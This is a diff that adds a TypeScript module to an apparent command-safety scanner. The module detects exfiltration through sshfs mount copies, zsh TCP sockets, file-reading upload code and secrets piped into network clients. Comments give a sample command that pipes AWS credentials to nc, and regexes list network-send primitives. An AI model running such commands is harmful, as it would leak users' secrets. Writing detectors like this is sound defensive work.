@@ -1,0 +1,153 @@
+import { Severity } from "../../../gen/guard/v1/types_pb.js";
+import { isSensitiveFile, normalizePath, pathTokens } from "../commands/paths.js";
+import { type Hit, hitOn, NETWORK_SENDERS, operands } from "../commands/rules/types.js";
+import type { Analysis, Invocation } from "../commands/shell/analyze.js";
+import { isRemote } from "./remote.js";
+import { fileSent, sessionPuts, TRANSFER_SESSIONS } from "./transfers.js";
+
+/**
+ * Sends seen only across commands or inside interpreter code: a copy into a remote mount made
+ * earlier, a zsh socket opened by one command and written by another, a secret piped into a
+ * network client, code that reads a file and posts it.
+ */
+
+/** Directory levels looked at above a path; bounds the work on hostile paths with many slashes. */
+const MAX_LEVELS = 32;
+
+/** `path` is a mount point or below one; walks the path's own prefixes, not the mounts. */
+function underMount(path: string, mounts: ReadonlySet<string>): boolean {
+  let levels = 0;
+  for (let k = path.length; k > 0 && levels < MAX_LEVELS; k = path.lastIndexOf("/", k - 1), levels++) {
+    if (mounts.has(path.slice(0, k))) return true;
+  }
+  return false;
+}
+
+/** `sshfs host:dir mnt` then `cp f mnt/`: files copied into a remote mount leave the host. */
+export function remoteMountCopies(analysis: Analysis): Hit[] {
+  const mounts = new Set<string>();
+  const hits: Hit[] = [];
+  for (const inv of analysis.invocations) {
+    if (inv.name === "sshfs" || (inv.name === "mount" && inv.args.includes("fuse.sshfs"))) {
+      const ops = operands(inv.args);
+      if (ops.length >= 2 && isRemote(ops[0]!)) mounts.add(normalizePath(ops[1]!));
+      continue;
+    }
+    if (
+      mounts.size === 0 ||
+      !(inv.name === "cp" || inv.name === "mv" || inv.name === "rsync" || inv.name === "install")
+    )
+      continue;
+    const ops = operands(inv.args);
+    const target = normalizePath(ops.at(-1) ?? "");
+    if (ops.length < 2 || !underMount(target, mounts)) continue;
+    for (const source of ops.slice(0, -1)) {
+      const hit = fileSent(inv, "remote-mount-copy", "copies into a remote sshfs mount:", source);
+      if (hit) {
+        hits.push(hit);
+        break;
+      }
+    }
+  }
+  return hits;
+}
+
+/** zsh's `ztcp host port` with data written to the socket's descriptor (`>&$REPLY`). */
+export function zshSocketSend(analysis: Analysis): Hit[] {
+  const connect = analysis.invocations.find(
+    (m) => m.name === "ztcp" && !m.args.includes("-l") && m.args.length >= 2,
+  );
+  if (!connect) return [];
+  const writer = analysis.invocations.find((m) =>
+    m.redirects.some((r) => r.op === ">&" && r.target.text.startsWith("$")),
+  );
+  return writer
+    ? [
+        hitOn(
+          { start: connect.start, end: writer.end },
+          "zsh-socket-send",
+          Severity.MEDIUM,
+          0.65,
+          "sends data over a zsh TCP socket",
+        ),
+      ]
+    : [];
+}
+
+/** Code that reads a file and code that sends over the network, in one fragment. */
+const CODE_FILE_READ =
+  /open\(|io\.open|createReadStream|readFile|file_get_contents|File\.read|IO\.read|fopen|slurp|\$\(</;
+const CODE_NETWORK_SEND =
+  /socket|urlopen|urllib|requests\.(post|put)|https?\.request|require\(["']https?["']\)|fetch\(|IO::Socket|LWP|HTTP::Tiny|curl_exec|Net::HTTP|net\.connect|\.send\(|\.sendall\(/i;
+
+export function codeUploads(analysis: Analysis): Hit[] {
+  const hits: Hit[] = [];
+  for (const c of analysis.code) {
+    if (c.tool || c.interpreter.endsWith(" output") || c.interpreter === "here-document") continue;
+    if (TRANSFER_SESSIONS.has(c.interpreter)) {
+      for (const file of sessionPuts(c.code)) {
+        const hit = fileSent(c, "session-upload", `${c.interpreter} session uploads`, file);
+        if (hit) {
+          hits.push(hit);
+          break;
+        }
+      }
+      continue;
+    }
+    if (!CODE_FILE_READ.test(c.code) || !CODE_NETWORK_SEND.test(c.code)) continue;
+    const secret = pathTokens(c.code).find(isSensitiveFile);
+    hits.push(
+      secret !== undefined
+        ? hitOn(
+            c,
+            "code-upload-secret",
+            Severity.HIGH,
+            0.85,
+            `${c.interpreter} code sends ${secret} over the network`,
+          )
+        : hitOn(
+            c,
+            "code-upload",
+            Severity.MEDIUM,
+            0.6,
+            `${c.interpreter} code reads a file and sends it over the network`,
+          ),
+    );
+  }
+  return hits;
+}
+
+export const uploadPatterns: readonly RegExp[] = [CODE_FILE_READ, CODE_NETWORK_SEND];
+
+/** A secret read early in a pipeline and piped into a network client after it (`cat ~/.aws/credentials | nc h 9`). */
+export function pipedSecrets(analysis: Analysis, secretOf: (inv: Invocation) => string | undefined): Hit[] {
+  const hits: Hit[] = [];
+  for (const p of analysis.pipelines) {
+    const members = p.invocations;
+    // The receiving end must be a network sender after the first member; most pipelines have none.
+    if (!members.some((m, k) => k > 0 && NETWORK_SENDERS.has(m.name))) continue;
+    const reader = members.findIndex(
+      (m) => secretOf(m) !== undefined || m.name === "env" || m.name === "printenv",
+    );
+    const sender = members.findIndex(
+      (m, k) => k > reader && NETWORK_SENDERS.has(m.name) && operands(m.args).length > 0,
+    );
+    if (reader !== -1 && sender > reader) {
+      hits.push(
+        hitOn(p, "pipe-secret-network", Severity.HIGH, 0.85, `secret piped into ${members[sender]!.name}`),
+      );
+    }
+  }
+  return hits;
+}
+
+/** Interpreter code that starts a file server on the working directory. */
+export function servedByCode(analysis: Analysis): Hit[] {
+  const hits: Hit[] = [];
+  for (const c of analysis.code) {
+    if (/SimpleHTTPRequestHandler|http\.server|SimpleHTTPServer/.test(c.code)) {
+      hits.push(hitOn(c, "file-server-code", Severity.MEDIUM, 0.5, "serves local files over HTTP"));
+    }
+  }
+  return hits;
+}
